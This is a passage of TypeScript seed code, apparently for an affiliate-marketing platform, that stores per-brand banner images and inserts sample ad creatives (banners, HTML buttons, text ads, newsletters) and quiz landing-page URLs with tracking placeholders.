  pictures: CataloguePictures,
  plans: { offerId: number; brand: Brand; index: number }[],
): Promise<void> {
  const bannerIds = new Map<string, [number, number]>();
  for (const [b, brand] of BRANDS.entries()) {
    const slug = brand.domain.replace(/\..*$/, '');
    const [mpu, leaderboard] = pictures.banners[b]!;
    bannerIds.set(brand.brand, [
      await storePicture(db, storage, mpu, 'creative_image', `${slug}-300x250.png`),
      await storePicture(db, storage, leaderboard, 'creative_image', `${slug}-728x90.png`),
    ]);
  }
  await repo.insertOfferCreatives(
    db,
    plans.flatMap(({ offerId, brand, index }) => {
      const [mpu, leaderboard] = bannerIds.get(brand.brand)!;
      return [
        { offerId, kind: 'banner', name: `${brand.brand} 300×250`, imageId: mpu, width: 300, height: 250 },
        { offerId, kind: 'banner', name: `${brand.brand} 728×90`, imageId: leaderboard, width: 728, height: 90 },
        {
          offerId,
          kind: 'html',
          name: `${brand.brand} button`,
          html: `<a href="{tracking_link}" style="display:inline-block;padding:12px 20px;background:${brand.style.from};color:${textOn(brand.style.from)};font:700 16px sans-serif;border-radius:6px;text-decoration:none">Try ${brand.brand} now</a>`,
        },
        {
          offerId,
          kind: 'text',
          name: `${brand.brand} text ad`,
          text: `${brand.brand}: sign up in two minutes. {tracking_link}`,
        },
        ...(index % 2 === 0
          ? [
              {
                offerId,
                kind: 'email',
                name: `${brand.brand} newsletter`,
                html: `<table width="600" cellpadding="24" style="font-family:sans-serif"><tr><td style="background:${brand.style.from};color:${textOn(brand.style.from)}"><h1>${brand.brand}</h1><p>Black Friday: the best time to join.</p><p><a href="{tracking_link}" style="color:${textOn(brand.style.from)}">Join ${brand.brand}</a></p></td></tr></table>`,
              },
            ]
          : []),
      ];
    }),
  );
  await repo.insertOfferLandingPages(
    db,
    plans
      .filter(({ index }) => index % 4 !== 3)
      .map(({ offerId, brand }) => ({
        offerId,
        name: 'Quiz funnel',
        url: `https://www.${brand.domain}/quiz?aff={aff_id}&sub={subid}&cid={click_id}`,
      })),
  );
}
